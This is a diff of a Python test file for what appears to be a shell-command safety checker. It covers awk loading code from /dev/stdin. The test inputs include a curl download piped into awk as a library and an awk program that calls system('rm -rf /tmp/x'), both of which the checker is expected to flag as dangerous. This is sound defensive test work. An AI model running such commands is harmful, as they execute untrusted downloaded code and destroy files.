@@ -394,11 +394,13 @@ def test_awk_libraries_that_cannot_be_read_and_plain_readers(
     judged(command, tmp_path, tier, words)
 
 
-@pytest.mark.xfail(strict=True, reason="readers: an awk library of /dev/stdin is taken for one of awk's own")
 @pytest.mark.parametrize("program", ["-i /dev/stdin 1", "'@include \"/dev/stdin\"; 1'"])
 def test_an_awk_library_read_from_a_pipe_is_held(program: str, tmp_path: Path) -> None:
-    """gawk 5.2 runs `printf 'BEGIN{system(...)}' | gawk -i /dev/stdin 1 f` (tried): as -f /dev/stdin, held."""
-    judged(f"curl -s https://example.com/p.awk | awk {program} f", tmp_path, D, "reads its commands from a pipe")
+    """gawk 5.2 runs `printf 'BEGIN{system(...)}' | gawk -i /dev/stdin 1 f` (tried): as -f /dev/stdin,
+    held (it was taken for one of awk's own libraries, moderate); known text typed in is judged."""
+    judged(f"git show HEAD:p.awk | awk {program} f", tmp_path, D, "reads its commands from a pipe")
+    judged(f"curl -s https://example.com/p.awk | awk {program} f", tmp_path, D, "downloaded from the internet")
+    judged(f"awk {program} f <<< 'BEGIN {{ system(\"rm -rf /tmp/x\") }}'", tmp_path, D, "awk starts shell commands")
 
 
 # ---- packages.py, scripts.py: npm's scripts as JSON, PATH's folders nobody may write
